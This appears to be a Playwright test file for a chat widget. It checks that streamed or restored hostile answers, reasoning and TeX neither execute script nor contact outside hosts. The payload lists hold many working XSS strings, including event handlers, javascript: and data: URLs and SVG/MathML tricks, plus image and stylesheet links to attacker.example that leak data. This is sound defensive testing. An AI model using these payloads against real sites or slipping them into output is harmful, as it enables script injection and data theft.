"""Rendering answers safely: public XSS corpora rendered in Chromium, live and restored.

The project's own payloads always run; the public corpora run where they are present
(`tests/corpora.py`) and are skipped, with the reason shown, where they are not.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from corpora import corpus_path
from guards import guard
from pages import host_page, log, route_answers, sse_answer, widget
from playwright.sync_api import Page, expect

# What the final DOM of every message is checked for (evaluated in the page).
AUDIT = (Path(__file__).parent / "audit.js").read_text()


def dompurify_payloads() -> list[str]:
    cases = json.loads(corpus_path("xss", "dompurify-payloads.json").read_text())
    assert len(cases) == 223
    return [case["payload"] for case in cases]


def markdown_it_cases() -> list[str]:
    """The inputs of markdown-it's XSS fixtures: blocks of description, input, output."""
    lines = corpus_path("xss", "markdown-it-xss.txt").read_text().split("\n")
    inputs: list[str] = []
    dots = [i for i, line in enumerate(lines) if line == "."]
    for start in range(0, len(dots) - 2, 3):
        inputs.append("\n".join(lines[dots[start] + 1 : dots[start + 1]]))
    assert len(inputs) >= 12
    return inputs


# The project's own payloads, one or more for every class the public corpora cover. They run
# in every clone; the corpora add breadth where they are present.
OWN_PAYLOADS = [
    # script and event-handler injection
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)> <body onload=alert(1)> <details open ontoggle=alert(1)>",
    '<a href="#" onclick="alert(1)">click</a> <div onmouseover="alert(1)">hover</div>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe> <object data=x></object>',
    '<input autofocus onfocus=alert(1)> <video><source onerror="alert(1)"></video>',
    # javascript: and data: URLs, in Markdown and in HTML
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1))",
    "[d](%6Aavascript:alert(1)) [h](&#x6A;avascript:alert(1)) [i](javascript&colon;alert(1))",
    "[e](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[f](vbscript:msgbox(1)) [g](file:///etc/passwd) <javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a> <a href=" javascript:alert(1)">y</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>"> <embed src="data:text/html,x">',
    "![leak](https://attacker.example/collect?c=secret) ![x](http://attacker.example/a.png)",
    "[![img](javascript:alert(1))](javascript:alert(2))",
    # SVG and MathML
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
    "</style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    "<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>",
    # CSS
    '<style>* { display: none }</style> <div style="background:url(javascript:alert(1))">s</div>',
    '<link rel=stylesheet href="https://attacker.example/x.css">',
    '<p style="position:fixed;inset:0">cover</p>',
    # broken and nested markup
    "<img src=x onerror=alert(1)//",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<a href="https://ok.example" <img src=x onerror=alert(1)>>x</a>',
    "<!--<img src=x onerror=alert(1)>--> <![CDATA[<img src=x onerror=alert(1)>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form id="chat"><input name="attributes"></form> <a id="__ran" name="x">clobber</a>',
    "<meta http-equiv=refresh content=0;url=https://x.example> <base href=https://x.example/>",
    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
    "`<img src=x onerror=alert(1)>` **<img src=x onerror=alert(1)>**",
]


def hostile_inputs(source: str) -> list[str]:
    if source == "own":
        return OWN_PAYLOADS
    return dompurify_payloads() + markdown_it_cases()


SOURCES = pytest.mark.parametrize("source", ["own", "public corpora"])


@pytest.fixture
def guarded(page: Page) -> list[str]:
    """Traps dialogs and records every request to a host other than the server's."""
    return guard(page)


def settle_media(page: Page) -> None:
    """Wait until every image has loaded or failed and two frames have passed: anything that
    would fire (onerror, onload, a redraw) has had its chance."""
    page.wait_for_function(
        "[...document.querySelector('chat-widget').shadowRoot.querySelectorAll('img')]"
        ".every(img => img.complete)"
    )
    page.evaluate("new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r)))")


def audit(page: Page, outside: list[str], expected_articles: int) -> None:
    settle_media(page)
    result: dict[str, Any] = page.evaluate(AUDIT)
    assert result["articles"] >= expected_articles
    assert result["ran"] == [], result["ran"][:5]
    assert result["problems"] == [], result["problems"][:10]
    assert outside == [], outside[:10]


def stream_body(text: str) -> str:
    return sse_answer(*({"content": text[i : i + 400]} for i in range(0, len(text), 400)))


def answer_with(page: Page, *answers: str) -> None:
    """The model answers each next request with the next of `answers`, streamed."""
    route_answers(page, *(stream_body(answer) for answer in answers))


@SOURCES
def test_hostile_answers_streamed_live_run_nothing(
    page: Page, guarded: list[str], source: str
) -> None:
    payloads = hostile_inputs(source)
    host_page(page, 'history="memory"')
    batches = [payloads[i : i + 40] for i in range(0, len(payloads), 40)]
    answer_with(page, *("\n\n".join(batch) for batch in batches))
    for number in range(len(batches)):
        widget(page).send(f"Answer batch {number}")
    expect(log(page).locator("article[data-role=assistant]")).to_have_count(len(batches))
    audit(page, guarded, 2 * len(batches))


@SOURCES
def test_hostile_history_restored_runs_nothing(page: Page, guarded: list[str], source: str) -> None:
    payloads = hostile_inputs(source)
    host_page(page, 'history="memory"')
    messages: list[dict[str, Any]] = []
    for number, payload in enumerate(payloads):
        call = {
            "id": f"c{number}",
            "type": "function",
            "function": {"name": "t", "arguments": "{}"},
        }
        messages += [
            {"role": "user", "content": payload},
            {"role": "assistant", "content": None, "tool_calls": [call]},
            {"role": "tool", "tool_call_id": f"c{number}", "name": "t", "content": payload},
            {"role": "assistant", "content": payload},
        ]
    snapshot = {
        "version": 1, "id": "hostile", "title": "<img src=x onerror=alert(1)>", "created": 1,
        "updated": 2, "model": "demo", "thinking": "off", "messages": messages,
    }  # fmt: skip
    page.evaluate("s => document.querySelector('chat-widget').session.restore(s)", snapshot)
    expect(log(page).locator("article[data-role=tool]")).to_have_count(len(payloads))
    expect(page.get_by_role("heading", level=2)).to_have_text("<img src=x onerror=alert(1)>")
    audit(page, guarded, len(messages))


# TeX that tries to link, load, run HTML, break out of <math> or expand for ever.
TEX_PAYLOADS = [
    r"\href{javascript:alert(1)}{click} \url{javascript:alert(2)}",
    r"\htmlClass{x}{y} \htmlId{x}{y} \htmlStyle{color:red}{y} \htmlData{onclick=alert(3)}{z}",
    r"\includegraphics{https://attacker.example/a.png}",
    r"\def\a{\a\a}\a",
    r"\textcolor{red\" onmouseover=\"alert(4)}{x} \color{url(javascript:alert(5))}x",
    "</math><img src=x onerror=alert(6)>",
    r"\text{<script>alert(7)</script>} \operatorname{<img src=x onerror=alert(8)>}",
]


@SOURCES
def test_hostile_reasoning_and_math_run_nothing(
    page: Page, guarded: list[str], source: str
) -> None:
    """Every payload as the model's reasoning and inside each kind of math delimiter."""
    payloads = TEX_PAYLOADS + hostile_inputs(source)
    host_page(page, 'history="memory"')
    batches = [payloads[i : i + 40] for i in range(0, len(payloads), 40)]
    route_answers(page, *(
        sse_answer({"reasoning_content": "\n\n".join(batch)}, {"content": "\n\n".join(
            f"$${p}$$ then ${p}$ then \\({p}\\) then \\[{p}\\]" for p in batch)})
        for batch in batches
    ))  # fmt: skip
    for number in range(len(batches)):
        widget(page).send(f"Think about batch {number}")
    expect(log(page).locator("article[data-role=assistant] .reasoning")).to_have_count(len(batches))
    for toggle in log(page).locator("button.thought").all():
        toggle.click()  # shown, like a curious person would
    audit(page, guarded, 2 * len(batches))


def test_markdown_reads_well(page: Page, guarded: list[str]) -> None:
    host_page(page, 'history="memory"')
    answer = (
        "Some *emphasis*, **strong** and `code`.\n\n- one\n- two\n\n1. first\n2. second\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "[a link](https://example.com/docs) and mail@example.com\n\n"
        "```python\nprint('hi')\n```\n\n![diagram](https://images.example/d.png)"
    )
    answer_with(page, answer)
    widget(page).send("Show me Markdown")
    body = log(page).locator("article[data-role=assistant] .body")
    expect(body.locator("em")).to_have_text("emphasis")
    expect(body.locator("strong")).to_have_text("strong")
    expect(body.locator("ul li")).to_have_count(2)
    expect(body.locator("ol li")).to_have_count(2)
    expect(body.locator("table td")).to_have_text(["1", "2"])
    link = body.get_by_role("link", name="a link")
    expect(link).to_have_attribute("href", "https://example.com/docs")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    expect(link).to_have_attribute("target", "_blank")
    expect(body.get_by_role("link", name="mail@example.com")).to_have_attribute(
        "href", "mailto:mail@example.com"
    )
    expect(body.locator("pre code")).to_have_text("print('hi')\n")
    expect(body.locator("img")).to_have_count(0)  # images from unlisted hosts are links
    expect(body.get_by_role("link", name="🖼 diagram")).to_have_attribute(
        "href", "https://images.example/d.png"
    )
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    body.get_by_role("button", name="Copy").click()
    assert page.evaluate("navigator.clipboard.readText()") == "print('hi')\n"
    assert guarded == []


def test_listed_image_hosts_show_inline(page: Page, guarded: list[str]) -> None:
    host_page(page, 'history="memory" image-hosts="localhost"')
    answer = "![chart](https://localhost/chart.png) ![other](https://elsewhere.example/x.png)"
    answer_with(page, answer)
    widget(page).send("A chart please")
    body = log(page).locator("article[data-role=assistant] .body")
    expect(body.locator("img")).to_have_count(1)
    expect(body.locator("img")).to_have_attribute("src", "https://localhost/chart.png")
    expect(body.locator("img")).to_have_attribute("referrerpolicy", "no-referrer")
    expect(body.get_by_role("link", name="🖼 other")).to_be_visible()


def test_user_messages_are_plain_text(page: Page, guarded: list[str]) -> None:
    host_page(page, 'history="memory"')
    widget(page).send("**not bold** <b>nor this</b>")
    user = log(page).locator("article[data-role=user] .body")
    expect(user).to_have_text("**not bold** <b>nor this</b>")
    expect(user.locator("b, strong")).to_have_count(0)


def test_streaming_redraws_only_the_answer_being_written(page: Page, guarded: list[str]) -> None:
    host_page(page, 'history="memory"')
    widget(page).send("My name is Alice")
    first = page.evaluate_handle(
        "document.querySelector('chat-widget').shadowRoot.querySelector('article[data-role=assistant]')"
    )
    page.evaluate(
        """first => { window.__replaced = 0;
        new MutationObserver(records => { for (const r of records)
            for (const node of r.removedNodes) if (node === first) window.__replaced++; })
          .observe(first.parentNode, {childList: true}); }""",
        first,
    )
    widget(page).send("Tell me a long story" + " with many words" * 20)
    assert page.evaluate("first => first.isConnected", first)
    assert page.evaluate("window.__replaced") == 0


def test_code_is_highlighted_and_highlight_js_loads_only_for_code(
    page: Page, guarded: list[str]
) -> None:
    loaded: list[str] = []
    page.on("request", lambda r: loaded.append(r.url) if "highlight" in r.url else None)
    host_page(page, 'history="memory"')
    code_answer = "```python\ndef greet(name):\n    return f'hi {name}'  # friendly\n```"
    answer_with(page, "No code here, just words.", code_answer)
    widget(page).send("Say something")
    assert loaded == []  # not needed yet
    widget(page).send("Show me code")
    code = log(page).locator("article[data-role=assistant]").last.locator("pre code")
    expect(code.locator("span.hljs-keyword").first).to_have_text("def")
    expect(code.locator("span.hljs-comment")).to_have_text("# friendly")
    expect(code).to_have_text("def greet(name):\n    return f'hi {name}'  # friendly\n")
    assert len(loaded) == 1
    audit(page, guarded, 4)


def test_every_kind_of_line_break_renders_alike(page: Page, guarded: list[str]) -> None:
    """One rule for what a line break is (widget/line_breaks.py): a heading after a bare CR or
    a Unicode separator is drawn as after a LF, as the Markdown download reads it too."""
    host_page(page, 'history="memory"')
    breaks = ["\n", "\r", "\r\n", "\u2028", "\u2029", "\x85"]
    answer_with(page, *(f"Before{br}## After{br}- item" for br in breaks))
    for number in range(len(breaks)):
        widget(page).send(f"Break {number}")
    answers = log(page).locator("article[data-role=assistant] .body")
    expect(answers).to_have_count(len(breaks))
    for number in range(len(breaks)):
        expect(answers.nth(number).locator("h2")).to_have_text("After")
        expect(answers.nth(number).locator("li")).to_have_text("item")
    assert guarded == []
